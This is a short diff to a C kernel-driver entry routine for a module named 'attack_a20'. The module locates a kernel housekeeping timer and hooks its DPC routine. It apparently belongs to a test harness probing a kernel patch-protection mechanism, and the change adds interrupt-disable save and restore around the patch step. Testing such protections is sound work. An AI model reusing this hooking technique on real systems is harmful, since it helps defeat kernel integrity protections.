@@ -28,6 +28,7 @@ status_t driver_entry(struct driver_object *drv)
 	dpc_init(&probe_dpc, probe_fn, NULL);
 	timer_init(&probe, &probe_dpc);
 	timer_set(&probe, PROBE_DELAY_NS, 0);
+	uint64_t pf = a_cli(); /* no pass between the patch and its report */
 	uint64_t f = a_cli();
 	int n = a_kernel_timers(&probe, KPP_TICK_HZ, found, 4);
 	if (n > 0) {
@@ -38,9 +39,11 @@ status_t driver_entry(struct driver_object *drv)
 	timer_cancel(&probe);
 	if (n <= 0) {
 		printk("attack_a20: housekeeping timer not found\n");
+		a_restore(pf);
 		return KPP_STATUS_UNSUCCESSFUL;
 	}
 	printk("attack_a20: housekeeping DPC routine hooked (chained)\n");
 	a_patched("attack_a20");
+	a_restore(pf);
 	return KPP_STATUS_SUCCESS;
 }
